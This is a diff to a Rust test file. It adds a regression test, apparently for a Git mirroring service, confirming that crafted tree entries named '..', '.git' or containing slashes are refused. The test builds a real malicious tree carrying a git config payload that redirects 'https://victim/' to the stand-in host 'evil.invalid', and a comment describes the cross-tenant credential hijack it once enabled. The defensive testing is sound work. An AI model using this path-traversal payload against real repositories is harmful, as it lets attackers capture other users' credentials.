@@ -99,3 +99,89 @@ fn fetches_branches_tags_and_commits_and_reads_a_directory_at_a_commit() -> Resu
     assert!(!err.contains("not-the-password"), "{err}");
     Ok(())
 }
+
+/// Writes a tree object with exactly `entries` (mode, name, hex id), the way
+/// `git hash-object -t tree --literally` lets an attacker: no name checks.
+fn literal_tree(dir: &std::path::Path, entries: &[(&str, &[u8], &str)]) -> Result<String> {
+    let mut body = Vec::new();
+    for (mode, name, id) in entries {
+        body.extend_from_slice(format!("{mode} ").as_bytes());
+        body.extend_from_slice(name);
+        body.push(0);
+        let raw: Vec<u8> = (0..id.len())
+            .step_by(2)
+            .filter_map(|i| u8::from_str_radix(&id[i..i + 2], 16).ok())
+            .collect();
+        body.extend_from_slice(&raw);
+    }
+    let mut child = std::process::Command::new("git")
+        .current_dir(dir)
+        .args(["hash-object", "-t", "tree", "--literally", "-w", "--stdin"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()?;
+    if let Some(mut stdin) = child.stdin.take() {
+        std::io::Write::write_all(&mut stdin, &body)?;
+    }
+    let out = child.wait_with_output()?;
+    if !out.status.success() {
+        bail!("git hash-object failed");
+    }
+    Ok(String::from_utf8_lossy(&out.stdout).trim().to_string())
+}
+
+/// A commit in one tenant's repository whose tree named `..` once wrote a
+/// `config` into another App's mirror (with `url.<evil>.insteadOf`), and the
+/// victim fetched the attacker's repository with its own credentials. The
+/// Git server accepts such a tree; airgate refuses it before writing a file.
+#[test]
+fn tree_entries_that_could_escape_the_checkout_are_refused() -> Result<()> {
+    let p = Perimeter::get();
+    let work = tempfile::tempdir()?;
+    let name = unique_name("evil-tree");
+    std::fs::write(work.path().join("README"), "x\n")?;
+    p.git_push(work.path(), &name, "main", "first")?;
+    std::fs::write(
+        work.path().join("payload"),
+        "[url \"https://evil.invalid/\"]\n\tinsteadOf = https://victim/\n",
+    )?;
+    let blob = p.git(work.path(), &["hash-object", "-w", "payload"])?;
+    let blob = blob.trim();
+    let inner = literal_tree(work.path(), &[("100644", b"config", blob)])?;
+    let url = format!("{}/{name}.git", p.git_url);
+    let cache = tempfile::tempdir()?;
+    let mirror = Mirror::new(cache.path());
+    // (An empty name is refused by git itself when it packs the push.)
+    for evil in [&b".."[..], b".", b".git", b".GIT", b"a/b", b"a\\b"] {
+        let mode = if evil == b"a/b" { "100644" } else { "40000" };
+        let id = if mode == "40000" {
+            inner.as_str()
+        } else {
+            blob
+        };
+        let root = literal_tree(work.path(), &[(mode, evil, id)])?;
+        let commit = p.git(work.path(), &["commit-tree", &root, "-m", "evil"])?;
+        let commit = commit.trim().to_string();
+        p.git(
+            work.path(),
+            &[
+                "push",
+                "--quiet",
+                "--force",
+                &url,
+                &format!("{commit}:refs/heads/main"),
+            ],
+        )?;
+        let fetched = mirror.fetch(&url, &GitRef::Branch("main".into()), &access(&p)?)?;
+        assert_eq!(fetched, commit);
+        match mirror.read_dir(&url, &commit, "") {
+            Err(GitError::UnsafeName { .. }) => {}
+            other => bail!(
+                "a tree entry named {:?} was not refused: {:?}",
+                String::from_utf8_lossy(evil),
+                other.map(|f| f.keys().cloned().collect::<Vec<_>>())
+            ),
+        }
+    }
+    Ok(())
+}
